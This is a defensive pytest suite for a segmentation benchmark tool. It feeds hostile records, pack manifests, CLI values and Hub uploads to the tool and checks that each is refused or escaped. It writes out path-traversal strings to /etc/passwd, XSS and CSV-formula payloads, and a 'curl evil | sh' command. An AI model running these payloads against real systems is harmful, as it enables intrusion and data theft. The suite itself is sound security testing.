"""Trust no record: records, demo packs, Hub results repos and command-line values written by someone else.

Every case is one row of a table below (id, what is fed in, what must happen); the same tables generate the
listing in tests/README.md (``test_readme_lists_every_case``; ``SEGBENCH_WRITE_LISTING=1`` rewrites it), so a case
is written once. Each row failed on the main branch before this change: the record loaded (and reached the table,
the app, the pack), a path left its folder, a folder was deleted, or a guard was switched off.
"""

from __future__ import annotations

import copy
import json
import os
import re
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from segbench.cli import main
from segbench.records.io import csv_text, load_frame, load_records, records_frame, write_record

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from app_fixtures import fake_record  # noqa: E402
from test_records import make_record  # noqa: E402
import test_hub as th  # noqa: E402
from test_hub import fake, local  # noqa: E402,F401  (the fake Hub and a pushed leaderboard, as fixtures here)

README = Path(__file__).resolve().parents[1] / "README.md"


@dataclass(frozen=True)
class Case:
    id: str
    given: str  # what is fed in, as the listing shows it
    expect: str  # a fragment of the one problem/error line, or what must hold
    change: Callable | None = None  # record -> None (mutates), or a case-specific argument


def _set(path: str, value) -> Callable:
    def change(record: dict) -> None:
        *parents, last = path.split(".")
        node = record
        for key in parents:
            node = node[key] if not isinstance(node, list) else node[int(key)]
        node[last] = value
    return change


def _both(*changes: Callable) -> Callable:
    def change(record: dict) -> None:
        for c in changes:
            c(record)
    return change


def _copied_counts(record: dict) -> None:  # another model's per-image counts (buys a shared rank in the bootstrap)
    record["metrics"]["per_image"] = {"intersection": [[9, 9], [9, 9]], "union": [[10, 10], [10, 10]]}


# ---------------------------------------------------------------- records (every reader: load_records)

RECORD_CASES = [
    Case("model-dotdot", 'model: "../../../../tmp/x"', "model '../../../../tmp/x' is not a valid name",
         _set("model", "../../../../tmp/x")),
    Case("model-store-path", 'model: "../../../store/weights/synthetic/unet"', "is not a valid name",
         _set("model", "../../../store/weights/synthetic/unet")),
    Case("model-slash", 'model: "a/b"', "model 'a/b' is not a valid name", _set("model", "a/b")),
    Case("model-empty", 'model: ""', "model '' is not a valid name", _set("model", "")),
    Case("model-hidden", 'model: ".hidden"', "is not a valid name", _set("model", ".hidden")),
    Case("model-long", "model: 300 letters", "is not a valid name", _set("model", "m" * 300)),
    Case("dataset-dotdot", 'dataset: "../../../../tmp/x"', "dataset '../../../../tmp/x' is not a valid name",
         _set("dataset", "../../../../tmp/x")),
    Case("dataset-absolute", 'dataset: "/etc"', "dataset '/etc' is not a valid name", _set("dataset", "/etc")),
    Case("split-dotdot", 'split: "../test"', "split '../test' is not a valid name", _set("split", "../test")),
    Case("family-html", 'family: "<b>fcn</b>"', "family '<b>fcn</b>' is not a valid name",
         _set("family", "<b>fcn</b>")),
    Case("group-slash", 'group: "a/b"', "group 'a/b' is not a valid name", _set("group", "a/b")),
    Case("id-dotdot", 'id: "../../etc/x"', "must be 12 lowercase hex digits", _set("id", "../../etc/x")),
    Case("id-upper", 'id: "ABCDEF123456"', "must be 12 lowercase hex digits", _set("id", "ABCDEF123456")),
    Case("id-short", 'id: "abc"', "must be 12 lowercase hex digits", _set("id", "abc")),
    Case("variant-newline", 'variant: "a\\nb"', "variant must be text of at most 200 characters",
         _set("variant", "a\nb")),
    Case("variant-huge", "variant: 10,000 characters", "variant must be text", _set("variant", "v" * 10_000)),
    Case("class-names-count", "class_names: 3 names, num_classes 2", "class_names has 3 names for num_classes 2",
         _set("class_names", ["a", "b", "c"])),
    Case("class-names-duplicate", 'class_names: ["a", "a"]', "class_names has duplicates",
         _both(_set("class_names", ["a", "a"]), _set("metrics.iou", {"a": 0.7}))),
    Case("class-name-control", 'class_names: ["a", "b\\x1b[31m"]', "class_names[1] must be text",
         _set("class_names", ["a", "b\x1b[31m"])),
    Case("num-classes-huge", "num_classes: 10^9", "num_classes must be in [1, 1000]", _set("num_classes", 10**9)),
    Case("device-control", 'hardware.device: "cpu\\r\\n<script>"', "hardware.device must be text",
         _set("hardware.device", "cpu\r\n<script>")),
    Case("uri-etc", 'weights.uri: "local:../../../../etc"', "is neither this run's store URI",
         _set("weights.uri", "local:../../../../etc")),
    Case("uri-absolute", 'weights.uri: "local:/etc/passwd"', "is neither this run's store URI",
         _set("weights.uri", "local:/etc/passwd")),
    Case("uri-other-run", "weights.uri: another run's local: URI", "is neither this run's store URI",
         _set("weights.uri", "local:synthetic/fcn8s--0123456789ab")),
    Case("uri-file", 'weights.uri: "file:///etc/passwd"', "is neither this run's store URI",
         _set("weights.uri", "file:///etc/passwd")),
    Case("uri-hf-dotdot", 'weights.uri: "hf://a/../b"', "is neither this run's store URI",
         _set("weights.uri", "hf://a/../b")),
    Case("uri-hf-other-run", "weights.uri: hf://owner/name/runs/<another id>", "is neither this run's store URI",
         _set("weights.uri", "hf://owner/name/runs/0123456789ab")),
    Case("sha256-not-hex", 'weights.sha256: "xyz"', "weights.sha256 must be 64 lowercase hex digits",
         _set("weights.sha256", "xyz")),
    Case("miou-outside-ci", "metrics.miou 0.7 with miou_ci [0.1, 0.2]", "lies outside its own 95% CI",
         _set("metrics.miou_ci", [0.1, 0.2])),
    Case("miou-not-mean", "metrics.miou 0.95, per-class IoU 0.9 and 0.5", "is not the mean of the present classes",
         _both(_set("metrics.miou", 0.95), _set("metrics.miou_ci", [0.9, 0.99]))),
    Case("iou-other-classes", 'metrics.iou: {"x": 0.7}', "metrics.iou names other classes than class_names",
         _set("metrics.iou", {"x": 0.7})),
    Case("per-image-copied", "per_image counts of another model", "per_image counts give IoU 0.9 for class 'b'",
         _copied_counts),
    Case("per-image-huge", "per_image counts of 10^30", "integer counts in [0, 2^63)",
         _set("metrics.per_image", {"intersection": [[10**30, 1], [5, 0]], "union": [[10**30, 2], [5, 0]]})),
    Case("per-image-bool", "per_image counts true/false", "integer counts in [0, 2^63)",
         _set("metrics.per_image", {"intersection": [[True, 1], [5, 0]], "union": [[True, 2], [5, 0]]})),
    Case("per-image-row", "per_image rows of 3 counts for 2 classes", "rows must have one count per class",
         _set("metrics.per_image", {"intersection": [[4, 1, 0], [5, 0, 0]], "union": [[5, 2, 0], [5, 0, 0]]})),
    Case("test-miou-not-mean", "test_metrics.miou 0.3, its IoU 0.8 and 0.6", "test_metrics.miou 0.3 is not the mean",
         _set("test_metrics", {"miou": 0.3, "iou": {"a": 0.8, "b": 0.6}})),
    Case("recipe-long", "selection.recipe: 300 letters", "selection.recipe must be text of at most 200 characters",
         _set("selection.recipe", "r" * 300)),
    Case("recipe-not-text", "selection.recipe: a mapping", "selection.recipe must be text",
         _set("selection.recipe", {"chosen_on": "test"})),
]


def _write_bad(folder: Path, case: Case) -> Path:
    record = make_record(id="000000000001")
    record["weights"]["uri"] = "local:synthetic/unet_small--000000000001"
    case.change(record)
    path = folder / "records" / "synthetic" / "bad--000000000001.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(record))
    return path


@pytest.mark.parametrize("case", RECORD_CASES, ids=[c.id for c in RECORD_CASES])
def test_a_hostile_record_is_one_problem_line_and_never_shown(tmp_path, case):
    write_record(make_record(), tmp_path)
    bad = _write_bad(tmp_path, case)
    frame, problems = load_frame(tmp_path)
    assert list(frame["id"]) == ["abcdef123456"]  # the good record only: no table row, plot, rank or pack
    assert len(problems) == 1 and "\n" not in problems[0] and problems[0].startswith(str(bad))
    assert case.expect in problems[0]


def test_the_untouched_fixture_record_is_valid(tmp_path):
    """The cases above are judged against a record that loads: only the change makes it a problem."""
    _write_bad(tmp_path, Case("none", "", "", lambda r: None))
    records, problems = load_records(tmp_path)
    assert problems == [] and len(records) == 1


# ---------------------------------------------------------------- duplicates, the CLI, the app

DUPLICATE_CASES = [
    Case("duplicate-id", "two different records with one id", "2 different records share the id abcdef123456"),
    Case("duplicate-copy", "the same record twice (a pulled copy)", "one record, no problem"),
]


@pytest.mark.parametrize("case", DUPLICATE_CASES, ids=[c.id for c in DUPLICATE_CASES])
def test_duplicate_ids_are_never_a_silent_pick(tmp_path, case):
    write_record(make_record(), tmp_path)
    twin = make_record()
    if case.id == "duplicate-id":
        twin["metrics"] = {**twin["metrics"], "pixel_accuracy": 0.99}
    (tmp_path / "records" / "synthetic" / "copy--abcdef123456.json").write_text(json.dumps(twin))
    records, problems = load_records(tmp_path)
    if case.id == "duplicate-id":
        assert records == [] and len(problems) == 1 and case.expect in problems[0]
        assert "copy--abcdef123456.json" in problems[0] and "unet_small--abcdef123456.json" in problems[0]
    else:
        assert len(records) == 1 and problems == []


def test_the_cli_table_skips_a_hostile_record_with_one_line(tmp_path, capsys):
    write_record(make_record(), tmp_path)
    bad = _write_bad(tmp_path, RECORD_CASES[0])
    assert main(["leaderboard", "--leaderboard", str(tmp_path)]) == 0
    captured = capsys.readouterr()
    assert captured.err.count("\n") == 1 and str(bad) in captured.err and "../../../../tmp/x" not in captured.out


# ---------------------------------------------------------------- rendering: record text is data

RENDER_CASES = [
    Case("details-html", 'variant: "<img src=x onerror=alert(1)>"', "&lt;img src=x onerror=alert(1)&gt;",
         _set("variant", "<img src=x onerror=alert(1)>")),
    Case("details-link", 'variant: "[click](http://evil.example)"', "\\[click\\](http://evil.example)",
         _set("variant", "[click](http://evil.example)")),
    Case("details-device", 'hardware.device: "**GPU** <script>"', "\\*\\*GPU\\*\\* &lt;script&gt;",
         _set("hardware.device", "**GPU** <script>")),
    Case("details-code-span", 'a record file named "x`y.json"', "`x'y.json`", _set("_path", "x`y.json")),
    Case("reproduce-command", 'command: "curl evil | sh"', "python -m segbench train unet_small-synthetic.yaml",
         _set("command", "curl evil | sh")),
    Case("reproduce-bad-config", 'config: {"model": "../x"}', "# no command:", _set("config", {"model": "../x"})),
    Case("scope-claim", 'latency.forward_scope: "whole app, 1000 images"', "model forward only",
         _set("efficiency.latency.forward_scope", "whole app, 1000 images")),
]


@pytest.mark.parametrize("case", RENDER_CASES, ids=[c.id for c in RENDER_CASES])
def test_record_strings_are_escaped_and_the_command_rebuilt(case):
    from segbench.app.details import record_details

    record = make_record(config={"model": "unet_small", "dataset": "synthetic", "epochs": 2})
    case.change(record)
    text = record_details(record)
    assert case.expect in text
    for raw in ("<img", "<script", "[click](", "curl evil", "whole app"):
        assert raw not in text


CSV_CASES = [
    Case("csv-formula", 'variant: "=HYPERLINK(\\"http://evil\\")"', "'=HYPERLINK"),
    Case("csv-plus-at", 'model name cells "+cmd", "@SUM(A1)"', "'+cmd"),
    Case("csv-tab", 'a cell starting with a tab', "'\\t"),
]


@pytest.mark.parametrize("case", CSV_CASES, ids=[c.id for c in CSV_CASES])
def test_csv_cells_are_neutralised(case):
    record = make_record(variant='=HYPERLINK("http://evil")')
    frame = records_frame([record])
    frame["extra"] = ["+cmd" if case.id == "csv-plus-at" else "\tx"]
    frame["other"] = ["@SUM(A1)"]
    text = csv_text(frame)
    assert case.expect.replace("\\t", "\t") in text
    assert ',=HYPERLINK' not in text and ",+cmd" not in text and ",@SUM" not in text and ",\tx" not in text
    assert ",-," not in csv_text(frame.assign(dash=["-"])).replace(",'-,", "")  # the '-' placeholder stays as is


# ---------------------------------------------------------------- demo packs

def _pack(tmp_path: Path) -> Path:
    """A verified pack with one model (two small files) and one example, built by hand like demo-pack writes it."""
    import hashlib

    root = tmp_path / "pack"
    files = {"models/synthetic/unet_small--abcdef123456/model.safetensors": b"w" * 10,
             "models/synthetic/unet_small--abcdef123456/model.json": b"{}",
             "examples/synthetic-0.jpg": b"j", "examples/synthetic-0-mask.png": b"p"}
    for name, data in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(data)
    manifest = {
        "schema": 1, "files": {n: {"sha256": hashlib.sha256(d).hexdigest(), "size": len(d)} for n, d in files.items()},
        "models": [{"key": "synthetic/unet_small--abcdef123456", "dataset": "synthetic", "name": "unet_small",
                    "run_id": "abcdef123456", "family": "unet", "variant": "same-16", "task": "semantic",
                    "miou": 0.7, "split": "val", "path": "unet_small--abcdef123456", "license": {"data": "x"}}],
        "examples": [{"dataset": "synthetic", "image": "examples/synthetic-0.jpg",
                      "mask": "examples/synthetic-0-mask.png", "license": "x"}]}
    (root / "manifest.json").write_text(json.dumps(manifest))
    return root


def _edit_manifest(root: Path, change: Callable[[dict], None]) -> None:
    manifest = json.loads((root / "manifest.json").read_text())
    change(manifest)
    (root / "manifest.json").write_text(json.dumps(manifest))


def _extra_model(**over) -> Callable[[dict], None]:
    def change(manifest: dict) -> None:
        model = {**copy.deepcopy(manifest["models"][0]), **over}
        manifest["models"].insert(0, model)
    return change


def _outside_file(manifest: dict, root: Path) -> None:
    secret = root.parent / "store" / "weights" / "model.safetensors"
    secret.parent.mkdir(parents=True)
    secret.write_bytes(b"s")
    import hashlib

    manifest["files"]["../store/weights/model.safetensors"] = {"sha256": hashlib.sha256(b"s").hexdigest(), "size": 1}
    manifest["models"].insert(0, {**manifest["models"][0], "path": "..", "dataset": "synthetic"})


PACK_CASES = [
    Case("pack-dotdot-model", 'a model entry with path: ".."', "demo model 0 skipped: path='..' is not a valid name",
         lambda m, root: _outside_file(m, root)),
    Case("pack-dotdot-file", 'files: {"../store/weights/...": ...}', "leaves", lambda m, root: _outside_file(m, root)),
    Case("pack-absolute-example", 'examples: [{"image": "/etc/passwd", ...}]', "example left out",
         lambda m, root: m["examples"].insert(0, {**m["examples"][0], "image": "/etc/passwd"})),
    Case("pack-missing-path", "a model entry without path", "demo model 0 skipped: path=None is not a valid name",
         lambda m, root: _extra_model(path=None)(m)),
    Case("pack-files-list", 'files: [...] (a list)', "unreadable demo manifest",
         lambda m, root: m.update(files=list(m["files"]))),
    Case("pack-models-dict", 'models: {...} (an object)', "unreadable demo manifest",
         lambda m, root: m.update(models={"a": 1})),
    Case("pack-model-not-object", 'models: ["x", ...]', "demo model 0 skipped: not an object",
         lambda m, root: m["models"].insert(0, "x")),
    Case("pack-dataset-dotdot", 'a model entry with dataset: "../x"', "dataset='../x' is not a valid name",
         lambda m, root: _extra_model(dataset="../x")(m)),
    Case("pack-key-mismatch", 'a model entry whose key names another run', "is not 'synthetic/unet_small--",
         lambda m, root: _extra_model(key="camvid/other--000000000000")(m)),
    Case("pack-miou-5", "a model entry with miou: 5", "miou=5 is not a fraction",
         lambda m, root: _extra_model(miou=5)(m)),
    Case("pack-test-miou-string", 'a model entry with test_miou: "55.9"', "test_miou='55.9' is not a fraction",
         lambda m, root: _extra_model(test_miou="55.9")(m)),
    Case("pack-task", 'a model entry with task: "shell"', "task 'shell' is not",
         lambda m, root: _extra_model(task="shell")(m)),
    Case("pack-example-not-object", 'examples: [42, ...]', "an example entry without image, mask and dataset",
         lambda m, root: m["examples"].insert(0, 42)),
    Case("pack-file-entry-list", 'files: {"<weights>": [1, 2]}', "has no {sha256, size} entry",
         lambda m, root: m["files"].update({"models/synthetic/unet_small--abcdef123456/model.json": [1, 2]})),
]


@pytest.mark.parametrize("case", PACK_CASES, ids=[c.id for c in PACK_CASES])
def test_a_hostile_pack_entry_is_left_out_and_the_rest_loads(tmp_path, case):
    from segbench.weights.demo import load_pack

    root = _pack(tmp_path)
    _edit_manifest(root, lambda m: case.change(m, root))
    pack = load_pack(root)  # never raises
    text = "\n".join(pack.problems)
    for model in pack.models:  # whatever loads lies inside the pack
        assert Path(model["folder"]).resolve().is_relative_to(root.resolve())
    for row in pack.examples:
        assert Path(row["image"]).resolve().is_relative_to(root.resolve()) and row["image"] != "/etc/passwd"
    if case.id == "pack-absolute-example":
        assert len(pack.examples) == 1 and len(pack.models) == 1  # left out without a word: it is not in files
        return
    assert pack.problems and case.expect in text, text
    whole_pack_unreadable = case.id in ("pack-files-list", "pack-models-dict")
    good_model_hit = case.id == "pack-file-entry-list"  # the bad entry is the good model's own config file
    expected = [] if whole_pack_unreadable or good_model_hit else ["synthetic/unet_small--abcdef123456"]
    assert [m["key"] for m in pack.models] == expected


def test_a_link_inside_the_pack_pointing_out_is_refused(tmp_path):
    from segbench.weights.demo import load_pack

    root = _pack(tmp_path)
    outside = tmp_path / "secret.json"
    outside.write_bytes(b"{}")
    target = root / "models/synthetic/unet_small--abcdef123456/model.json"
    target.unlink()
    target.symlink_to(outside)  # same bytes, same sha256: only the resolved path tells
    pack = load_pack(root)
    assert pack.models == [] and "leaves" in "\n".join(pack.problems)


# ---------------------------------------------------------------- demo-pack --out and command-line guards

def _board(tmp_path: Path) -> Path:
    board = tmp_path / "lb"
    write_record(make_record(), board)
    (board / "NOTES.md").write_text("my notes")
    return board


def _tree(folder: Path) -> dict[str, bytes]:
    return {str(p): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


OUT_CASES = [
    Case("out-leaderboard", "demo-pack --out <the leaderboard folder>", "holds the leaderboard", "{board}"),
    Case("out-parent", "demo-pack --out <a folder holding the leaderboard>", "holds the leaderboard", "{tmp}"),
    Case("out-notes", "demo-pack --out <a folder of notes>", "a folder that is not a demo pack (no manifest.json)",
         "{tmp}/notes"),
    Case("out-records", "demo-pack --out <leaderboard>/records", "a folder that is not a demo pack",
         "{board}/records"),
    Case("out-file", "demo-pack --out <a file>", "is a file or a link", "{tmp}/file.txt"),
]


@pytest.mark.parametrize("case", OUT_CASES, ids=[c.id for c in OUT_CASES])
def test_demo_pack_out_never_deletes_what_it_did_not_make(tmp_path, case, capsys):
    board = _board(tmp_path)
    (tmp_path / "notes").mkdir()
    (tmp_path / "notes" / "a.txt").write_text("keep me")
    (tmp_path / "file.txt").write_text("keep me too")
    before = _tree(tmp_path)
    out = case.change.format(board=board, tmp=tmp_path)
    assert main(["demo-pack", "--leaderboard", str(board), "--store", str(tmp_path / "store"), "--out", out]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and case.expect in err
    assert _tree(tmp_path) == before  # nothing deleted, nothing written


ARG_CASES = [
    Case("shard-empty", 'run --shard ""', "--shard '': use i/n", ["run", "--shard", ""]),
    Case("shard-zero", "run --shard 0/0", "--shard '0/0': use i/n", ["run", "--shard", "0/0"]),
    Case("max-mb-nan", "demo-pack --max-mb nan", "argument --max-mb: 'nan' is invalid",
         ["demo-pack", "--max-mb", "nan"]),
    Case("max-mb-inf", "demo-pack --max-mb inf", "argument --max-mb: 'inf' is invalid",
         ["demo-pack", "--max-mb", "inf"]),
    Case("max-mb-negative", "demo-pack --max-mb -1", "argument --max-mb", ["demo-pack", "--max-mb", "-1"]),
    Case("leaderboard-seeds", "leaderboard --suite default --seeds 1000000", "argument --seeds: '1000000' is invalid",
         ["leaderboard", "--suite", "default", "--seeds", "1000000"]),
]


@pytest.mark.parametrize("case", ARG_CASES, ids=[c.id for c in ARG_CASES])
def test_values_that_would_switch_a_guard_off_are_refused(tmp_path, case, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    argv = case.change + (["--store", str(tmp_path / "s"), "--leaderboard", str(tmp_path / "lb")]
                          if case.change[0] == "run" else [])
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and case.expect in err and "Traceback" not in err
    assert not (tmp_path / "s").exists() and not (tmp_path / "lb").exists()


# ---------------------------------------------------------------- ONNX graphs belong to their weights

ONNX_CASES = [
    Case("onnx-foreign-graph", "another run's model.onnx beside the weights", "re-exported from these weights"),
]


@pytest.mark.parametrize("case", ONNX_CASES, ids=[c.id for c in ONNX_CASES])
def test_a_graph_from_other_weights_is_never_run(tmp_path, case):
    import shutil

    import torch

    from segbench.inference.export import WEIGHTS_KEY, graph_weights_sha256
    from segbench.inference.predict import Predictor
    from segbench.weights.store import LocalStore, sha256_file
    from test_demo import save_tiny

    store = LocalStore(tmp_path / "store")
    ours = store.resolve(save_tiny(tmp_path / "store", "camvid", "ab" * 6, seed=0)["uri"])
    theirs = store.resolve(save_tiny(tmp_path / "store", "camvid", "cd" * 6, seed=1)["uri"])
    Predictor(theirs, backend="onnx")  # exports theirs/model.onnx
    shutil.copy(theirs / "model.onnx", ours / "model.onnx")  # lying beside our weights
    assert graph_weights_sha256(ours / "model.onnx") != sha256_file(ours / "model.safetensors")
    onnx, eager = Predictor(ours, backend="onnx"), Predictor(ours, fast=False)
    assert graph_weights_sha256(ours / "model.onnx") == sha256_file(ours / "model.safetensors"), WEIGHTS_KEY
    image = torch.randint(0, 256, (3, 40, 56), dtype=torch.uint8)
    assert (onnx(image).mask == eager(image).mask).float().mean() >= 0.999


# ---------------------------------------------------------------- a hostile results repo on the (fake) Hub

HUB_CASES = [
    Case("hub-bad-names", "results repo: a record with model ../../x", "is not a valid name"),
    Case("hub-uri", "results repo: weights.uri local:../../../../etc", "is neither this run's store URI"),
    Case("hub-duplicate", "results repo: two different records with one id", "different records share the id"),
    Case("hub-numbers", "results repo: mIoU outside its CI; counts of 10^30", "outside its own 95% CI"),
    Case("hub-injection", "results repo: variant with HTML and a formula", "shown escaped, CSV neutralised"),
]


def test_a_hostile_results_repo_leaves_the_app_serving_every_good_record(fake, local, tmp_path, monkeypatch):
    """Records uploaded by anyone with write access to the results repo; the app starts and shows the good ones."""
    from huggingface_hub import CommitOperationAdd, HfApi

    from segbench.app.config import AppConfig
    from segbench.app.state import AppState
    from segbench.app.leaderboard import BoardFilter, on_filter

    board, store, _ = local
    assert th._push(board, store) == 0
    good = fake_record(1, dataset="camvid", miou=0.6, images=4, seed=3)
    injected = fake_record(2, dataset="camvid", miou=0.5, images=4, seed=4)
    injected["variant"] = '<img src=x onerror=alert(1)> =HYPERLINK("http://evil")'
    bad = [fake_record(10 + i, dataset="camvid", miou=0.5, images=4, seed=i) for i in range(4)]
    bad[0]["model"] = "../../x"
    bad[1]["weights"]["uri"] = "local:../../../../etc"
    bad[2]["metrics"]["miou_ci"] = [0.01, 0.02]
    bad[3]["metrics"]["per_image"]["union"][0][0] = 10**30
    twins = [fake_record(30 + i, dataset="camvid", miou=m, run_id="eeeeeeeeeeee") for i, m in enumerate((0.4, 0.8))]
    uploads = {f"records/camvid/good--{good['id']}.json": good, f"records/camvid/inj--{injected['id']}.json": injected}
    uploads |= {f"records/camvid/twin{i}--eeeeeeeeeeee.json": r for i, r in enumerate(twins)}
    uploads |= {f"records/camvid/bad{i}--{r['id']}.json": r for i, r in enumerate(bad)}
    HfApi(endpoint=fake.url, token=th.TOKEN).create_commit(
        th.RESULTS, repo_type="dataset", commit_message="anyone's upload",
        operations=[CommitOperationAdd(name, json.dumps(r).encode()) for name, r in uploads.items()])

    cfg = AppConfig(leaderboard=tmp_path / "empty", store=tmp_path / "nostore", demo=None, hub_results=th.RESULTS)
    state = AppState.load(cfg, workdir=tmp_path / "work")  # starts: nothing raised
    ids = {r["id"] for r in state.board.records}
    assert {good["id"], injected["id"], "aaaaaaaaaaaa", "bbbbbbbbbbbb"} <= ids  # every good record is served
    assert "eeeeeeeeeeee" not in ids and not ids & {r["id"] for r in bad}
    problems = "\n".join(state.board.problems)
    assert len(state.board.problems) == len(bad) + 1, problems  # one line per bad record, one for the twins
    for case in HUB_CASES[:4]:
        assert case.expect in problems, case.id
    assert "integer counts in [0, 2^63)" in problems
    table, csv_path, _ = on_filter(state, BoardFilter(show_capped=True), "", True, None)
    csv = Path(csv_path).read_text()
    assert injected["id"] in csv and not re.search(r'(^|,)"?[=+@]', csv, re.M)  # no cell starts like a formula
    from segbench.app.details import record_details

    assert "<img" not in record_details(next(r for r in state.board.records if r["id"] == injected["id"]))


# ---------------------------------------------------------------- the listing in tests/README.md

TABLES = [
    ("Records (every reader: `load_records`, the app, the CLI, demo-pack, push, pull)", "one `problem:` line naming "
     "the file contains", RECORD_CASES + DUPLICATE_CASES),
    ("Rendering (record details, Reproduce, CSV)", "the output contains", RENDER_CASES + CSV_CASES),
    ("Demo pack manifests (`load_pack`)", "problem line contains; the rest of the pack loads", PACK_CASES),
    ("Writes and guards (`demo-pack --out`, command-line values)", "one `error:` line contains; nothing deleted or "
     "written", OUT_CASES + ARG_CASES),
    ("ONNX graphs and a hostile Hub results repo", "what happens", ONNX_CASES + HUB_CASES),
]
START, END = "<!-- trust-cases: generated by tests/badinput/test_trust_faults.py -->", "<!-- trust-cases: end -->"


def listing() -> str:
    lines = [START, ""]
    for title, expect, cases in TABLES:
        lines += [f"#### {title}", "", f"| case | input | {expect} |", "|---|---|---|"]
        lines += [f"| {c.id} | {c.given.replace('|', '/')} | {c.expect.replace('|', '/')} |" for c in cases]
        lines.append("")
    return "\n".join(lines + [END])


def test_readme_lists_every_case():
    text = README.read_text(encoding="utf-8")
    if os.environ.get("SEGBENCH_WRITE_LISTING"):
        head, _, rest = text.partition(START)
        tail = rest.partition(END)[2] if rest else "\n"
        README.write_text(head + listing() + tail, encoding="utf-8")
        text = README.read_text(encoding="utf-8")
    assert listing() in text, "tests/README.md is out of date: run SEGBENCH_WRITE_LISTING=1 pytest " + __file__
    cases = [c for _, _, group in TABLES for c in group]
    assert len(cases) >= 60 and len({c.id for c in cases}) == len(cases)
